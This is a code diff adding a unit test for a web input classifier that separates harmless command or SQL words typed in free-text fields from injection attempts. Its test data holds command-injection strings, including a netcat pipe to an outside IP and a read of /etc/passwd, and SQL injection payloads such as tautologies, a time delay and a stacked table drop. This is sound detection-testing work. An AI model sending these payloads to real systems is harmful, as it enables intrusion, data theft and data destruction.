@@ -51,6 +51,33 @@ static void expect_reads(bool (*reader)(const char *, fk_webstruct_field), fk_we
 #define EXPECT_READS(reader, f, list, want)                                                        \
     expect_reads(reader, f, list, sizeof list / sizeof list[0], want)
 
+/* Free text (a search, a comment) is read as a string the application keeps: a command
+ * line or SQL words are what people type there; only breaking out of the string, or a
+ * separator, a substitution or a program's path, says more. */
+Test(webstruct, free_text_needs_a_break_out)
+{
+    static const char *const typed[] = {"sudo apt update", "rm -rf node_modules", "netstat -an",
+                                        "powershell get-childitem", "grep -r"};
+    EXPECT_READS(shell, FK_WS_TEXT, typed, false);
+    EXPECT_READS(shell, FK_WS_PARAM, typed, true);
+    static const char *const commands[] = {"x; cat /etc/passwd", "`id`",
+                                           "$(whoami)",          "a | nc 203.0.113.5 4444",
+                                           "/bin/sh -c id",      "get-childitem -path c:\\"};
+    EXPECT_READS(shell, FK_WS_TEXT, commands, true);
+    static const char *const words[] = {"drop table if exists", "select count from users group by",
+                                        "5 union all select password, 2 from accounts"};
+    EXPECT_READS(sqli, FK_WS_TEXT, words, false);
+    EXPECT_READS(sqli, FK_WS_PARAM, words, true);
+    static const char *const sql[] = {"1' or '7'='7", "x\" or 2>1 -- ",
+                                      "1 waitfor delay '0:0:15' --", "abc'); drop table orders; --",
+                                      "5 union all select password, 2 from accounts--"};
+    EXPECT_READS(sqli, FK_WS_TEXT, sql, true);
+    cr_assert_eq(fk_webstruct_param_field("q", 1), FK_WS_TEXT);
+    cr_assert_eq(fk_webstruct_param_field("comment", 7), FK_WS_TEXT);
+    cr_assert_eq(fk_webstruct_param_field("id", 2), FK_WS_PARAM);
+    cr_assert_eq(fk_webstruct_param_field("p", 1), FK_WS_PARAM);
+}
+
 Test(webstruct, sql_shapes_in_each_quoting_context)
 {
     static const char *const attacks[] = {
